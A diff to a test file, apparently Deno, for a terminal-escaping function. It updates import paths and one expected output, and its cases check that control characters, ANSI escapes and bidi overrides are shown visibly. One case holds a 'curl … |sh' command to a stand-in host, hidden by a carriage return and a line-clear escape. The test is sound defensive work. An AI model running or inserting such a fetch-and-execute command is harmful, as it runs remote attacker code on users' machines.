@@ -1,12 +1,15 @@
-import { assertEquals } from "./_assert.ts";
-import { escapeForTerminal, hasUnsafeTerminalText } from "../../src/remote/escape_text.ts";
+import { assertEquals } from "../remote/_assert.ts";
+import {
+  escapeForTerminal,
+  hasUnsafeTerminalText,
+} from "../../src/protocol/escape_for_terminal.ts";
 
 Deno.test("escapeForTerminal() shows every dangerous character visibly", () => {
   const cases: [string, string][] = [
     ["ls -l", "ls -l"],
     ["curl -s evil.example/x|sh\r\x1b[2Kls", "curl -s evil.example/x|sh\\x0d\\x1b[2Kls"],
     ["a\nb\tc\x00d\x7f", "a\\x0ab\\x09c\\x00d\\x7f"],
-    ["\x9b31m", "\\x9b31m"],
+    ["\x9b31m", "\\u{9b}31m"],
     ["file\u202egnp.exe", "file\\u{202e}gnp.exe"],
     ["\u2066x\u2069\u200ey\u200f", "\\u{2066}x\\u{2069}\\u{200e}y\\u{200f}"],
     [
